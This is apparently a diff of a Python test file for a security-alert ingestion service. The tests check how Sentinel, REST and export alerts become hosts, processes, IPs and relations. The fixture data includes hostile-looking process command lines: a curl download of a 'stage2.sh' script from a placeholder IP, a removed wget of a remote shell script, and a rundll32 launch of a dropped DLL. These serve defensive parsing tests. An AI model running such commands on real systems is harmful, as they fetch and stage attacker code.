@@ -20,25 +20,29 @@ from alerts.models import (
 )
 from inventory.models import Activity, Resource, ResourceHostName
 from tests.alerts.helpers import (
-    ARM_EXAMPLE,
     EVENTS,
+    EXPORT,
     JSON,
     NDJSON,
     SENTINEL,
     VM1,
-    arm_example,
+    arm_alerts,
+    edges,
+    export_alert,
     ingest,
     native,
+    rest_example,
     sentinel_entities,
     sentinel_rows,
 )
 from tests.conftest import make_token
 
-DOWNLOAD_KEY = "2518520133657099999_384e00d0-4afc-4e9a-8935-bec64d3951a4"  # row 20
-INCIDENT_KEY = "2518522745615999999_30ac5794-a265-4420-a1b7-6335ac08e2c0"  # row 23
-WIN1_KEY = "2518520402897969999_b946cd89-667e-4ce7-b571-9603859a7234"  # row 24
-ARM_KEYS = ["2518298467986649999_4d25bfef-2d77-4a08-adc0-3e35715cc92a",
-            "2518765996949954086_2325cf9e-42a2-4f72-ae7f-9b863cba2d22"]
+DOWNLOAD_KEY = "2516960000000000201_5e6f7a8b-9c0d-4e1f-a2b3-c4d5e6f7a801"  # row 3
+INCIDENT_KEY = "2516950000000000300_9f8e7d6c-5b4a-4392-8170-6f5e4d3c2b30"  # row 5
+WINDOWS_KEY = "2516940000000000400_0a1b2c3d-4e5f-4a6b-8c7d-9e0f1a2b3c40"  # row 6
+ARM_KEYS = ["2516987654321098765_5a0e3d2c-7b1f-4e8a-9c6d-2f4b8a1e3c70",
+            "2516987650000000001_8e2f4a6c-0b1d-4c3e-a5f7-9d8b6a4c2e10"]
+SOC_SUBSCRIPTION = uuid.UUID("9a8b7c6d-5e4f-4a3b-9c2d-1e0f9a8b7c6d")
 
 
 def counts():
@@ -47,57 +51,55 @@ def counts():
         RejectedItem, Resource, ResourceHostName)}
 
 
-def edges(alert):
-    return {(r.source.position, r.target.position if r.target_id else None, r.type, r.prop)
-            for r in Relation.objects.filter(alert=alert).select_related("source", "target")}
+# -- each format, from the suite's fixtures -------------------------------------------------------
 
-
-# -- the real samples --------------------------------------------------------------------------
-
-def test_it_ingests_the_sentinel_sample(p):
+def test_it_ingests_the_sentinel_rows(p):
     rows = sentinel_rows()
     report = ingest(p.sub, SENTINEL.read_bytes(), NDJSON)
 
-    assert (report.accepted, report.duplicates, report.rejected) == (25, 0, 0)
-    assert [r.type for r in report.results] == ["alert"] * 23 + ["incident", "alert"]
+    assert (report.accepted, report.duplicates, report.rejected) == (7, 0, 0)
+    assert [r.type for r in report.results] == ["alert"] * 5 + ["incident", "alert"]
     assert all(r.warnings == [] for r in report.results)
-    assert Alert.objects.filter(subscription=p.sub).count() == 24
+    assert Alert.objects.filter(subscription=p.sub).count() == 6
     assert set(Alert.objects.values_list("key", flat=True)) == \
-        {row["SystemAlertId"] for i, row in enumerate(rows) if i != 23}
+        {row["SystemAlertId"] for i, row in enumerate(rows) if i != 5}
     assert set(Alert.objects.values_list("format", flat=True)) == {"sentinel"}
 
     incident = ProviderIncident.objects.get(subscription=p.sub)
-    assert report.results[23].id == incident.pk
+    assert report.results[5].id == incident.pk
     assert incident.key == INCIDENT_KEY
     assert incident.provider == "Detection"
     assert incident.alert_keys == [
-        "2518522745615999999_c57a0525-9ca0-4caa-aee8-fd1bb33f785b",
-        "2518520981440769999_caab1270-55d3-4447-8618-16cf8672e4e1",
-        "2518520973978269999_57b6af71-984e-45f3-9aac-d6bbd79eed07"]
+        "2516970000000000101_a1b2c3d4-0001-4e5f-8a9b-0c1d2e3f4a01",
+        "2516970000000000102_a1b2c3d4-0002-4e5f-8a9b-0c1d2e3f4a02",
+        "2516970000000000103_a1b2c3d4-0003-4e5f-8a9b-0c1d2e3f4a03"]
     assert not Alert.objects.filter(key=INCIDENT_KEY).exists()
 
     # Every alert's mentions are its entities as sent, in order.
     for i, row in enumerate(rows):
-        if i == 23:
+        if i == 5:
             continue
         alert = Alert.objects.get(key=row["SystemAlertId"])
         assert [m.props for m in alert.mentions.order_by("position")] == sentinel_entities(row)
 
-    # One host MSTICAlertsLxVM2 across the 23 alerts that name it (by name or NetBiosName).
+    # One host lnx-build-03 across the 5 alerts that name it, in three casings and by
+    # HostName alone or with its NetBiosName.
     lx = {m.entity_id for m in AlertEntity.objects.filter(kind="host",
-                                                          label__iexact="msticalertslxvm2")}
+                                                          label__iexact="lnx-build-03")}
     assert len(lx) == 1
-    assert AlertEntity.objects.filter(entity_id__in=lx).count() == 23
+    assert AlertEntity.objects.filter(entity_id__in=lx).count() == 5
     assert Entity.objects.filter(subscription=p.sub, kind="host").count() == 2
     assert sorted(Entity.objects.filter(kind="ip").values_list("label", flat=True)) == \
-        ["104.211.30.1", "203.0.113.1", "23.97.60.214"]
+        ["192.0.2.200", "198.51.100.14", "203.0.113.45"]
+    # Both detections name one logon session (same id, host and start).
+    assert Entity.objects.filter(subscription=p.sub, kind="host-logon-session").count() == 1
 
     download = Alert.objects.get(key=DOWNLOAD_KEY)
     mentions = list(download.mentions.order_by("position").select_related("entity"))
+    command = "curl -s http://198.51.100.14/stage2.sh -o /tmp/s2.sh"
     assert [(m.kind, m.label) for m in mentions] == [
-        ("host", "MSTICALERTSLXVM2"), ("process", "process 0x4e4f"), ("account", "dbadmin"),
-        ("file", "wget"), ("process", "wget http://13.67.35.176/QuZYpObins.sh -t 3 -T 5"),
-        ("host-logon-session", "0x2e8cf")]
+        ("host", "LNX-BUILD-03"), ("process", "process 0x1f2e"), ("account", "deploybot"),
+        ("file", "curl"), ("process", command), ("host-logon-session", "0x5a1c3")]
     assert mentions[0].entity_id in lx
     assert all(m.entity.subscription_id == p.sub.pk for m in mentions)
     assert edges(download) == {
@@ -105,20 +107,21 @@ def test_it_ingests_the_sentinel_sample(p):
         (4, 2, "runs_as", "Account"), (4, 1, "parent", "ParentProcess"),
         (4, 0, "runs_on", "Host"), (5, 0, "session_host", "Host"),
         (5, 2, "session_account", "Account")}
-    wget = mentions[4].entity
-    assert set(wget.identifiers.filter(strong=True).values_list("value", flat=True)) == {
-        "process|pid-time-host|20053|2019-02-16T03:23:54Z|msticalertslxvm2",
-        "process|cmd-time-host|wget http://13.67.35.176/QuZYpObins.sh -t 3 -T 5"
-        "|2019-02-16T03:23:54Z|msticalertslxvm2"}
+    curl = mentions[4].entity
+    assert set(curl.identifiers.filter(strong=True).values_list("value", flat=True)) == {
+        "process|pid-time-host|8021|2026-10-06T03:12:44Z|lnx-build-03",
+        f"process|cmd-time-host|{command}|2026-10-06T03:12:44Z|lnx-build-03"}
+    assert download.resource.external_id == rows[3]["ResourceId"].lower()
 
-    win1 = Alert.objects.get(key=WIN1_KEY)
-    assert win1.severity == Severity.MEDIUM
-    assert edges(win1) == {(1, 0, "refers_to", "Host")}
-    assert win1.resource.external_id == rows[24]["ResourceId"].lower()
+    windows = Alert.objects.get(key=WINDOWS_KEY)
+    assert windows.severity == Severity.MEDIUM
+    assert edges(windows) == {(1, 0, "refers_to", "Host")}
+    assert windows.resource.external_id == rows[6]["ResourceId"].lower()
 
 
-def test_it_ingests_the_arm_example_file_as_is(p):
-    report = ingest(p.sub, ARM_EXAMPLE.read_bytes(), JSON)
+def test_it_ingests_a_rest_api_example_file_as_is(p):
+    values = arm_alerts()
+    report = ingest(p.sub, rest_example(values), JSON)
 
     assert (report.accepted, report.duplicates, report.rejected) == (2, 0, 0)
     assert [[w["code"] for w in r.warnings] for r in report.results] == \
@@ -131,28 +134,57 @@ def test_it_ingests_the_arm_example_file_as_is(p):
     assert [w["code"] for w in first.warnings] == ["incident_without_alerts"]
     assert not ProviderIncident.objects.exists()
 
-    values = arm_example()["responses"]["200"]["body"]["value"]
     assert [m.props for m in first.mentions.order_by("position")] == \
         values[0]["properties"]["entities"]
     assert [(m.kind, m.label) for m in second.mentions.order_by("position")] == [
-        ("host", "vm2"), ("account", "vm2\\contosoUser"), ("file", "cmd.exe"),
-        ("process", "process 0x3c44"), ("file", "scrsave.scr"),
-        ("process", "c:\\users\\contosoUser\\scrsave.scr")]
+        ("host", "payroll-app-02"), ("account", "payroll-app-02\\svc-payroll"),
+        ("file", "cmd.exe"), ("process", "process 0x1a2b"), ("file", "upd.scr"),
+        ("process", "c:\\users\\svc-payroll\\appdata\\local\\temp\\upd.scr /s")]
     assert Relation.objects.filter(alert__in=[first, second]).count() == 0
     ip = first.mentions.get().entity
-    assert (ip.kind, ip.label) == ("ip", "192.0.2.1")
+    assert (ip.kind, ip.label) == ("ip", "198.51.100.23")
     assert first.resource == second.resource
     assert first.resource.external_id == values[0]["properties"]["resourceIdentifiers"][0][
         "azureResourceId"].lower()
 
 
-def test_it_rejects_every_windows_event_of_the_events_sample_as_not_an_alert(p):
+def test_it_ingests_the_export_alert_with_its_reused_and_dangling_references(p):
+    report = ingest(p.sub, EXPORT.read_bytes(), JSON)
+
+    [result] = report.results
+    assert (result.status, result.type) == ("created", "alert")
+    assert [w["code"] for w in result.warnings] == [
+        "duplicate_id", "forward_reference", "dangling_reference", "ref_in_entity_list"]
+    alert = Alert.objects.get(pk=result.id)
+    assert alert.format == "export"
+    assert alert.tactics == ["DefenseEvasion", "Execution"]
+    assert [m.props for m in alert.mentions.order_by("position")][0] == \
+        export_alert()["Entities"][0]
+    assert [(m.kind, m.label) for m in alert.mentions.order_by("position")] == [
+        ("host", "ledger-db-02"), ("account", "FINCORP\\svc-ledger"), ("ip", "203.0.113.77"),
+        ("process", "rundll32.exe C:\\ProgramData\\upd.dll,Start"), ("file", "rundll32.exe"),
+        ("filehash", "SHA256:4f1d0c9a8b7e6d5c4b3a29180f7e6d5c4b3a29180f7e6d5c4b3a29180f7e6d5c"),
+        ("dns", "cdn-check.example.net"), ("host-logon-session", "0x3e7a1")]
+    assert edges(alert) == {
+        (1, 0, "refers_to", "Host"), (3, 0, "runs_on", "Host"), (3, 1, "runs_as", "Account"),
+        (3, 4, "image", "ImageFile"), (4, 5, "has_hash", "FileHashes"),
+        (3, None, "parent", "ParentProcess"), (6, 2, "resolves_to", "IpAdresses"),
+        (7, 1, "session_account", "Account"), (7, 0, "session_host", "Host")}
+    assert Relation.objects.get(alert=alert, target=None).target_ref == "9"
+    # ResourceIdentifiers name the machine; its host entity carries the same AzureID.
+    assert alert.resource.external_id == export_alert()["ResourceIdentifiers"][0][
+        "AzureResourceId"].lower()
+    assert alert.resource.name.lower() == "ledger-db-02"
+
+
+def test_it_rejects_every_windows_event_as_not_an_alert(p):
+    lines = [line for line in EVENTS.read_bytes().splitlines() if line.strip()]
     report = ingest(p.sub, EVENTS.read_bytes(), NDJSON)
 
-    assert (report.accepted, report.rejected) == (0, 286)
+    assert (report.accepted, report.rejected) == (0, len(lines)) == (0, 21)
     assert {r.error["code"] for r in report.results} == {"not_an_alert"}
     assert Alert.objects.count() == 0
-    assert RejectedItem.objects.filter(subscription=p.sub, code="not_an_alert").count() == 286
+    assert RejectedItem.objects.filter(subscription=p.sub, code="not_an_alert").count() == 21
 
 
 # -- duplicates ---------------------------------------------------------------------------------
@@ -166,7 +198,7 @@ def test_it_counts_the_same_file_twice_as_duplicates(p):
     with mock.patch("django.utils.timezone.now", return_value=later):
         again = ingest(p.sub, SENTINEL.read_bytes(), NDJSON)
 
-    assert (again.accepted, again.duplicates, again.rejected) == (0, 25, 0)
+    assert (again.accepted, again.duplicates, again.rejected) == (0, 7, 0)
     assert [(r.id, r.type) for r in again.results] == [(r.id, r.type) for r in first.results]
     assert counts() == before
     for alert in Alert.objects.all():
@@ -372,9 +404,9 @@ def test_it_keeps_a_resource_id_of_another_cloud_subscription_as_is(p):
 
 
 def test_it_takes_the_subscription_from_the_caller_never_the_payload(p):
-    p.other.external_id = uuid.UUID("40dcc8bf-0478-4f3b-b275-ed0a94f2c013")
+    p.other.external_id = SOC_SUBSCRIPTION
     p.other.save()
-    row = sentinel_rows()[24]
+    row = sentinel_rows()[6]
     assert row["WorkspaceSubscriptionId"] == str(p.other.external_id)
 
     report = ingest(p.sub, json.dumps(row).encode(), NDJSON)
